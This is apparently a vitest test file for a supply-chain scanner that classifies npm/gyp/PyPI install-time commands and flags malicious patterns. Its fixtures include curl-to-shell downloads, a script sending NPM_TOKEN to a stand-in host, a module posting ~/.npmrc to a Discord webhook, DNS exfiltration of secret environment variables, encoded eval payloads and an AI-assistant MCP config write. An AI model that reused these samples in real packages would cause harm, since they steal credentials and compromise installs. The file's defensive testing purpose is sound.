// What npm runs at install: hook command lines split outside quotes, and binding.gyp's commands (node-gyp runs them
// at install), each classified as an ordinary build step, package code or a shell command of its own.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { corpusPath, hasCorpora, REPO_ROOT } from '../../../../test/corpora.js';
import { openRelease } from '../../package/open.js';
import { releaseOf } from '../release.fixture.js';
import { commandParts, directImports, gypCommands, importTimeFiles, installTimeFiles, loadedAsideFiles, npmHooks } from './hooks.js';
import { analyzeSource } from './index.js';

const ctx = { resourcesDir: path.join(REPO_ROOT, 'resources'), internalNamespaces: [] };

describe('commandParts', () => {
  it('splits on the shell operators outside quotes only', () => {
    expect(commandParts('node a.js && curl x | sh; echo ok || true & wait')).toEqual(['node a.js', 'curl x', 'sh', 'echo ok', 'true', 'wait']);
    expect(commandParts(`node -e "try{require('./p')}catch(e){}; a && b"`)).toEqual([`node -e "try{require('./p')}catch(e){}; a && b"`]);
    expect(commandParts("echo 'a;b' ; x")).toEqual(["echo 'a;b'", 'x']);
    expect(commandParts('node x.js > /dev/null 2>&1 || true')).toEqual(['node x.js > /dev/null 2>&1', 'true']);
    expect(commandParts('a \\; b')).toEqual(['a \\; b']);
  });
  it('reads an unclosed quote to the end and an empty line as nothing', () => {
    expect(commandParts('node -e "a; b')).toEqual(['node -e "a; b']);
    expect(commandParts('  ;; & ')).toEqual([]);
  });
});

describe('gypCommands', () => {
  it('reads command expansions (every form, list form joined) and action lists, with their lines', () => {
    const gyp = [
      '{',
      "  # '<!(curl -s http://example.invalid | sh)' in a comment runs nothing",
      "  'variables': { 'tag': '<!(node -e \"require(\\'./tools/x.js\\')\")' },",
      '  "targets": [{',
      '    "include_dirs": ["<!@(node -p \\"require(\'node-addon-api\').include\\")", ">!(pkg-config --cflags glib-2.0)"],',
      "    'libraries': ['<!@([\"python3\", \"gen.py\", \"--libs\"])'],",
      '    "actions": [{ "action_name": "gen", "action": ["<(python)", "tools/gen.py", "<@(_outputs)"] }]',
      '  }]',
      '}',
    ].join('\n');
    expect(gypCommands(gyp)).toEqual([
      { command: `node -e "require('./tools/x.js')"`, line: 3 },
      { command: `node -p "require('node-addon-api').include"`, line: 5 },
      { command: 'pkg-config --cflags glib-2.0', line: 5 },
      { command: 'python3 gen.py --libs', line: 6 },
      { command: 'python tools/gen.py <@(_outputs)', line: 7 },
    ]);
  });
  it("writes the variables a command names as the file's values (a command split over variables)", () => {
    const gyp = [
      '{',
      '  "variables": { "cfg_proto": "https", "cfg_host%": "cache.example", "cfg_get": "curl -fsSL <(cfg_flags)", "cfg_flags": "--retry 2" },',
      '  "targets": [{ "actions": [{ "action": ["sh", "-c", "<(cfg_get) <(cfg_proto)://<(cfg_host)/<(OS).sh | sh"] }] }]',
      '}',
    ].join('\n');
    expect(gypCommands(gyp)).toEqual([{ command: 'sh -c curl -fsSL --retry 2 https://cache.example/<(OS).sh | sh', line: 3 }]);
    // a variable naming itself stays bounded
    expect(gypCommands('{"v": "<(v)<(v)", "a": "<!(echo <(v))"}')[0]?.command.length).toBeLessThanOrEqual(8192);
  });
  it('answers truncated and hostile files without throwing, bounded', () => {
    expect(gypCommands("{'x': '<!(curl a | sh")).toEqual([{ command: 'curl a | sh', line: 1 }]);
    expect(gypCommands('{"action": ["sh", "-c"')).toEqual([{ command: 'sh -c', line: 1 }]);
    expect(gypCommands('"<!(' + '('.repeat(100_000))).toHaveLength(1);
    expect(gypCommands(`'${'<!(a)'.repeat(10_000)}'`)).toHaveLength(100);
    expect(gypCommands('')).toEqual([]);
  });
});

describe('binding.gyp at install', () => {
  const addon = (gyp: string, extra: Record<string, string> = {}) =>
    releaseOf('npm', { 'package.json': '{"name":"addon","version":"1.0.0"}', 'binding.gyp': gyp, 'src/a.cc': '', 'index.js': "module.exports = require('./build/Release/a.node');", ...extra });

  it('an ordinary native build (node-addon-api, pkg-config, its own generator script) is an ordinary step', () => {
    const gyp = `{ 'variables': { 'major': '<!(node -p "process.versions.node.split(\\'.\\')[0]")', 'musl': '<!(ldd --version 2>&1 | head -n1 | grep musl | wc -l)' },
      'targets': [{ 'target_name': 'a', 'include_dirs': ["<!@(node -p \\"require('node-addon-api').include\\")", '<!@(pkg-config cairo --cflags-only-I | sed s/-I//g)', '<!@(krb5-config gssapi --libs)'],
      'actions': [{ 'action_name': 'tables', 'inputs': ['tools/gen.py'], 'outputs': ['t.h'], 'action': ['python3', 'tools/gen.py', 't.h'] }] }] }`;
    const r = addon(gyp, { 'tools/gen.py': 'import sys\nopen(sys.argv[1], "w").write("// tables\\n")\n' });
    const hooks = npmHooks(r);
    expect(hooks.map((h) => [h.command.split(' ')[0], h.ordinary, h.shell])).toEqual([
      ['node', true, false],
      ['ldd', true, false],
      ['node', true, false],
      ['pkg-config', true, false],
      ['krb5-config', true, false],
      ['python3', true, false],
    ]);
    expect(hooks[5]?.targets).toEqual(['tools/gen.py']);
    const out = analyzeSource(r, ctx);
    expect(out.findings.filter((f) => f.severity !== 'info' && f.severity !== 'low')).toEqual([]);
  });

  it("a download piped to a shell in an action, and package code run by an expansion, are install-time", () => {
    const gyp = `{ 'variables': { 'v': '<!(node -e "require(\\'./tools/fp.js\\')")' }, 'targets': [{ 'target_name': 'a',
      'actions': [{ 'action_name': 'g', 'inputs': [], 'outputs': ['x.h'], 'action': ['sh', '-c', 'curl -fsSL https://cdn.example.invalid/g.sh | sh > x.h'] }] }] }`;
    const r = addon(gyp, { 'tools/fp.js': "const os = require('os');\nrequire('https').get('https://example.invalid/?h=' + os.hostname() + '&t=' + process.env.NPM_TOKEN);\n" });
    const out = analyzeSource(r, ctx);
    const at = (code: string) => out.findings.filter((f) => f.code === code).map((f) => `${f.file}:${f.line} ${f.severity}`);
    expect(at('shell_download_pipe')).toEqual(['binding.gyp:2 critical']);
    expect(at('npm_install_script')).toEqual(['binding.gyp:1 low']);
    expect(out.chains?.some((c) => c.title.endsWith('(at install time)'))).toBe(true);
  });

  it('reads the .gypi files binding.gyp includes, not other gyp files', () => {
    const r = addon("{ 'includes': ['common.gypi'], 'targets': [] }", { 'common.gypi': "{ 'variables': { 'x': '<!(wget -qO- http://example.invalid/a | bash)' } }", 'deps/other.gyp': "{ 'variables': { 'y': '<!(curl http://example.invalid | sh)' } }" });
    expect(npmHooks(r).map((h) => [h.file, h.shell])).toEqual([['common.gypi', true]]);
  });
});

describe.runIf(hasCorpora())('a real native addon', () => {
  it("bcrypt's binding.gyp (the corpus's benign npm release, read as bytes) gives its commands as ordinary build steps", () => {
    const bytes = new Uint8Array(readFileSync(corpusPath('packages', 'benign', 'npm', 'bcrypt-6.0.0.tgz')));
    const release = openRelease(bytes, { filename: 'bcrypt-6.0.0.tgz' });
    const gyp = npmHooks(release).filter((h) => h.file === 'binding.gyp');
    expect(gyp.length).toBeGreaterThan(0);
    expect(gyp.every((h) => h.ordinary && !h.shell)).toBe(true);
    expect(gyp.map((h) => h.command)).toContain(`node -p "require('node-addon-api').targets"`);
  });
  it("Jinja2's sdist (read as bytes): its package's relative imports resolve to its modules, and nothing of the package loads its tests", () => {
    const bytes = new Uint8Array(readFileSync(corpusPath('packages', 'benign', 'pypi', 'Jinja2-3.1.2.tar.gz')));
    const release = openRelease(bytes, { filename: 'Jinja2-3.1.2.tar.gz' });
    const init = release.files.find((f) => f.path.endsWith('jinja2/__init__.py'))?.path ?? '';
    const imported = directImports(release, new Set([init])).get(init) ?? [];
    expect(imported).toEqual(expect.arrayContaining([init.replace('__init__.py', 'environment.py'), init.replace('__init__.py', 'exceptions.py')]));
    expect([...loadedAsideFiles(release, (p) => /(?:^|\/)tests?\//.test(p))]).toEqual([]);
  });
});

describe('what a build runs at install', () => {
  it("npm: the makefile make reads (-f, -C, the default names) and the .mk files it includes, and a shell script a hook runs", () => {
    const pkg = (scripts: Record<string, string>): string => JSON.stringify({ name: 'x', version: '1.0.0', scripts });
    const files = { Makefile: 'include mk/tc.mk\n', 'native/GNUmakefile': 'all:\n', 'build.mk': '', configure: '#! /bin/sh\n', 'scripts/setup.sh': '' };
    const at = (scripts: Record<string, string>): string[] => {
      const release = releaseOf('npm', { 'package.json': pkg(scripts), ...files }, { scripts });
      return [...installTimeFiles(release, npmHooks(release))].sort();
    };
    expect(at({ install: 'make -s all' })).toEqual(['Makefile']);
    expect(at({ install: 'make -C native' })).toEqual(['native/GNUmakefile']);
    expect(at({ install: 'make -f build.mk' })).toEqual(['build.mk']);
    expect(at({ preinstall: 'sh ./configure --quiet' })).toEqual(['configure']);
    expect(at({ postinstall: './scripts/setup.sh && echo ok' })).toEqual(['scripts/setup.sh']);
    expect(at({ postinstall: 'bash scripts/missing.sh' })).toEqual([]);
  });
  it("PyPI: cffi's build scripts, a configure script the build runs, and the CMake, Meson and build.rs files of a source build", () => {
    const release = releaseOf('pypi', {
      'setup.py': 'import subprocess\nsubprocess.check_call(["sh", "./configure"], cwd=V)\nsetup(cffi_modules=["build_ffi.py:ffibuilder"])\n',
      'build_ffi.py': '',
      'vendor/configure': '#! /bin/sh\n',
      'CMakeLists.txt': '',
      'build.rs': '',
      'src/lib.rs': '',
      'other.py': '',
    });
    const at = installTimeFiles(release, []);
    expect(['build_ffi.py', 'vendor/configure', 'CMakeLists.txt', 'build.rs'].every((p) => at.has(p))).toBe(true);
    expect(at.has('src/lib.rs') || at.has('other.py')).toBe(false);
  });
});

describe('loadedAsideFiles', () => {
  const aside = (p: string): boolean => /(?:^|\/)(?:tests?|testing|examples?)\//.test(p);
  it("a test-folder module the package's own code imports (relative or absolute, as a submodule name) is not set aside", () => {
    const files = {
      'pkg/__init__.py': 'from .core import x\nfrom .testing import fixtures as _f\n',
      'pkg/core.py': 'import os\n',
      'pkg/testing/__init__.py': '',
      'pkg/testing/fixtures.py': 'from ..testing import helpers\n',
      'pkg/testing/helpers.py': '',
      'pkg/testing/unused.py': '',
      'tests/test_core.py': 'from pkg.testing import unused\n',
    };
    const loaded = loadedAsideFiles(releaseOf('pypi', files), aside);
    expect([...loaded].sort()).toEqual(['pkg/testing/__init__.py', 'pkg/testing/fixtures.py', 'pkg/testing/helpers.py']);
    // the module only the tests import stays aside
    expect(loaded.has('pkg/testing/unused.py')).toBe(false);
    const abs = loadedAsideFiles(releaseOf('pypi', { 'pkg/__init__.py': 'import pkg.testing.unused\n', 'pkg/testing/unused.py': '' }), aside);
    expect([...abs]).toEqual(['pkg/testing/unused.py']);
  });
  it('npm: a file under test/ that the main module requires', () => {
    const loaded = loadedAsideFiles(releaseOf('npm', { 'index.js': "require('./test/setup')\n", 'test/setup.js': '', 'test/other.js': "require('./setup')\n" }), aside);
    expect([...loaded]).toEqual(['test/setup.js']);
  });
  it("npm's prepare script's file under test/ keeps its severity (prepare runs when the package is installed from source)", () => {
    const payload = "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())\n";
    const sev = (scripts: Record<string, string>): string | undefined =>
      analyzeSource(releaseOf('npm', { 'index.js': '', 'test/helpers/boot.js': payload }, { scripts }), ctx).findings.find((f) => f.code === 'js_eval_decoded')?.severity;
    expect(sev({ prepare: 'node test/helpers/boot.js' })).toBe('high');
    expect(sev({ test: 'node test/helpers/boot.js' })).toBe('medium');
  });
  it("a finding in such a file keeps its severity; the same file that nothing loads is read as a test's", () => {
    const payload = 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n';
    const sev = (init: string): string | undefined =>
      analyzeSource(releaseOf('pypi', { 'pkg/__init__.py': init, 'pkg/testing/fixtures.py': payload }), ctx).findings.find((f) => f.code === 'py_exec_decoded')?.severity;
    expect(sev('from .testing import fixtures\n')).toBe('high');
    expect(sev('x = 1\n')).toBe('medium');
  });
  it("Django's tests.py is a test module like test_x.py", () => {
    const payload = 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n';
    const sev = (file: string): string | undefined => analyzeSource(releaseOf('pypi', { 'app/__init__.py': '', [file]: payload }), ctx).findings.find((f) => f.code === 'py_exec_decoded')?.severity;
    expect(sev('app/tests.py')).toBe('medium');
    expect(sev('app/test_views.py')).toBe('medium');
    expect(sev('app/views.py')).toBe('high');
  });
});

describe('chains across files that load one another', () => {
  const chains = (files: Record<string, string>): string[] => (analyzeSource(releaseOf('pypi', files), ctx).chains ?? []).map((c) => c.title);
  const collect = 'import os\ndef grab():\n    return open(os.path.expanduser("~/.npmrc")).read()\n';
  const send = (imp: string): string => `${imp}\nimport requests\ndef go():\n    requests.post("https://discord.com/api/webhooks/1/x", json={"c": grab()})\n`;
  it('a module that reads credentials and the module that imports it and sends them form one chain', () => {
    expect(chains({ 'pkg/collect.py': collect, 'pkg/send.py': send('from .collect import grab') })).toEqual(['reads credential files -> sends it to a Discord webhook']);
    expect(chains({ 'pkg/collect.py': collect, 'pkg/send.py': send('from pkg import collect') })).toHaveLength(1);
  });
  it('the same two modules with no import between them form none', () => {
    expect(chains({ 'pkg/collect.py': collect, 'pkg/send.py': send('from .other import grab') })).toEqual([]);
  });
});

describe('Python files the build or every interpreter start runs', () => {
  const at = (files: Record<string, string>): string[] => [...installTimeFiles(releaseOf('pypi', files), [])].sort();
  it('an in-tree build backend and Hatch hooks, by the paths pyproject.toml gives or Hatch defaults to', () => {
    const backend = '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n';
    expect(at({ 'pyproject.toml': backend, '_build/backend.py': '', 'pkg/__init__.py': '' })).toEqual(['_build/backend.py']);
    const hatch = '[build-system]\nbuild-backend = "hatchling.build"\n[tool.hatch.build.hooks.custom]\n';
    expect(at({ 'pyproject.toml': hatch, 'hatch_build.py': '', 'pkg/__init__.py': '' })).toEqual(['hatch_build.py']);
    const target = '[tool.hatch.build.targets.wheel.hooks.custom]\npath = "tools/hook.py"\n[tool.hatch.metadata.hooks.custom]\npath = "tools/meta.py"\n';
    expect(at({ 'pyproject.toml': target, 'tools/hook.py': '', 'tools/meta.py': '' })).toEqual(['tools/hook.py', 'tools/meta.py']);
    // a backend from the index (no backend-path), a broken file, and no hooks: nothing of the package's own
    expect(at({ 'pyproject.toml': '[build-system]\nbuild-backend = "hatchling.build"\n', 'hatch_build.py': '' })).toEqual([]);
    expect(at({ 'pyproject.toml': '[build-system\nbuild-backend = ', '_build/backend.py': '' })).toEqual([]);
  });
  it('a top-level sitecustomize or usercustomize module runs at every interpreter start, a package\'s own module of that name does not', () => {
    expect(at({ 'sitecustomize.py': 'import pkg._hook\n', 'pkg/__init__.py': '', 'pkg/_hook.py': '' })).toEqual(['pkg/_hook.py', 'sitecustomize.py']);
    expect(at({ 'src/usercustomize.py': '', 'src/pkg/__init__.py': '' })).toEqual(['src/usercustomize.py']);
    expect(at({ 'pkg/sitecustomize.py': '', 'pkg/__init__.py': '' })).toEqual([]);
    expect(at({ 'x-1.0.data/data/Lib/site-packages/sitecustomize.py': '', 'x/__init__.py': '' })).toEqual(['x-1.0.data/data/Lib/site-packages/sitecustomize.py']);
    expect(at({ 'x-1.0.data/purelib/usercustomize.py': '', 'x/__init__.py': '' })).toEqual(['x-1.0.data/purelib/usercustomize.py']);
  });
  it('the package modules a .pth file imports, and makefiles when setup.py runs make', () => {
    expect(at({ 'x.pth': 'import pkg._boot as b; b.enable()\n', 'pkg/__init__.py': '', 'pkg/_boot.py': '', 'pkg/other.py': '' })).toEqual(['pkg/_boot.py', 'x.pth']);
    const setup = (cmd: string): Record<string, string> => ({ 'setup.py': `import subprocess\n${cmd}\n`, 'native/Makefile': 'all:\n\tcc -c a.c\n', 'native/rules.mk': '' });
    expect(at(setup('subprocess.check_call(["make", "-C", "native"])'))).toEqual(['native/Makefile', 'native/rules.mk', 'setup.py']);
    expect(at(setup('os.system("make -C native")'))).toEqual(['native/Makefile', 'native/rules.mk', 'setup.py']);
    expect(at(setup('print("run make yourself")'))).toEqual(['setup.py']);
  });
  it('the modules setup.py imports from a folder of the release it puts on the import path', () => {
    const setup = 'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "build_helpers"))\nfrom accel_bootstrap import Bootstrapper\n';
    expect(at({ 'setup.py': setup, 'build_helpers/accel_bootstrap.py': '', 'build_helpers/other.py': '', 'pkg/__init__.py': '' })).toEqual(['build_helpers/accel_bootstrap.py', 'setup.py']);
    expect(at({ 'setup.py': 'import sys\nsys.path.append("tools/")\nimport gen_version\n', 'tools/gen_version.py': '' })).toEqual(['setup.py', 'tools/gen_version.py']);
    // a module of that name elsewhere, not on the path setup.py gives, is not what it loads
    expect(at({ 'setup.py': 'from accel_bootstrap import B\n', 'build_helpers/accel_bootstrap.py': '' })).toEqual(['setup.py']);
  });
  it("a makefile's recipes are read as shell commands only where the install runs make", () => {
    const files = { 'setup.py': 'import subprocess\nsubprocess.check_call(["make", "-C", "native"])\n', 'native/Makefile': 'config:\n\t@(curl -fsSL $(URL) -o build/.tc && sh build/.tc &) ; true\n' };
    const codes = (f: Record<string, string>): string[] => analyzeSource(releaseOf('pypi', f), ctx).findings.map((x) => x.code);
    expect(codes(files)).toContain('download_and_run');
    expect(codes({ ...files, 'setup.py': 'from setuptools import setup\nsetup()\n' })).not.toContain('download_and_run');
  });
});

describe('files loaded when the package is imported', () => {
  const at = (ecosystem: 'npm' | 'pypi', files: Record<string, string>): string[] => [...importTimeFiles(releaseOf(ecosystem, files))].sort();
  it("npm: the entry module (exports' root through its conditions, main, else index.js) and what it requires, not bin targets", () => {
    const pj = (j: object): string => JSON.stringify({ name: 'p', version: '1.0.0', ...j });
    expect(at('npm', { 'package.json': pj({ main: 'lib/index.js', bin: { p: 'bin/cli.js' } }), 'lib/index.js': "require('./a');\n", 'lib/a.js': "const b = require('./b.js');\n", 'lib/b.js': '', 'bin/cli.js': "require('../lib/setup')", 'lib/setup.js': '' })).toEqual(['lib/a.js', 'lib/b.js', 'lib/index.js']);
    expect(at('npm', { 'package.json': pj({ exports: { '.': { import: './esm/index.mjs', require: './cjs/index.cjs' }, './extra': './extra.js' } }), 'esm/index.mjs': '', 'cjs/index.cjs': '', 'extra.js': '', 'index.js': '' })).toEqual(['cjs/index.cjs', 'esm/index.mjs', 'index.js']);
    // a damaged package.json: node's default entry point
    expect(at('npm', { 'package.json': '{ "main": ', 'index.js': '', 'other.js': '' })).toEqual(['index.js']);
  });
  it('pypi: top-level packages and modules and the modules their top-level imports name; not a function\'s import, __main__ or setup.py', () => {
    const files = {
      'setup.py': 'from pkg import helpers\n',
      'pkg/__init__.py': 'from . import _compat\nfrom .core import run\n\ndef later():\n    from . import lazy\n',
      'pkg/_compat.py': 'import pkg.deep\n',
      'pkg/core.py': '',
      'pkg/deep.py': '',
      'pkg/lazy.py': '',
      'pkg/helpers.py': '',
      'pkg/__main__.py': '',
      'src/other/__init__.py': '',
      'tool.py': '',
    };
    expect(at('pypi', files)).toEqual(['pkg/__init__.py', 'pkg/_compat.py', 'pkg/core.py', 'pkg/deep.py', 'src/other/__init__.py', 'tool.py']);
  });
  it("a rule's import severity applies in those files only", () => {
    const write = 'import json, os\np = os.path.join(os.path.expanduser("~"), ".cursor", "mcp.json")\ncfg = {}\ncfg.setdefault("mcpServers", {})["x"] = {"command": "npx"}\nwith open(p, "w") as fh:\n    json.dump(cfg, fh)\n';
    const severity = (file: string): string[] => analyzeSource(releaseOf('pypi', { [file]: write }), ctx).findings.filter((f) => f.code === 'persistence_ai_assistant_config').map((f) => f.severity);
    expect(severity('pkg/__init__.py')).toEqual(['high']);
    expect(severity('pkg/__main__.py')).toEqual(['medium']);
  });
});

describe('attack chains in tests, examples and docs', () => {
  const conftest = 'import os, socket, base64\ndef pytest_sessionstart(session):\n    keys = [k for k in os.environ if k.endswith(("_TOKEN", "_SECRET"))]\n    data = base64.b32encode("\\n".join(os.environ[k] for k in keys).encode()).decode()\n    socket.gethostbyname("%s.t.collector.example" % data[:50])\n';
  it('a chain that sends collected secrets out counts, one step lower, and only within its file', () => {
    const out = analyzeSource(releaseOf('pypi', { 'pkg/__init__.py': '', 'conftest.py': conftest }), ctx);
    expect((out.chains ?? []).map((c) => c.severity)).toEqual(['high']);
    expect(out.chains?.[0]?.title).toContain('test, example or docs file');
  });
  it('a test that only talks to a service it starts forms no chain', () => {
    const test = 'import os, socket\ndef test_lookup():\n    assert socket.gethostbyname("localhost")\n    assert os.environ.get("HOME")\n';
    expect(analyzeSource(releaseOf('pypi', { 'pkg/__init__.py': '', 'tests/test_net.py': test }), ctx).chains).toEqual([]);
  });
});
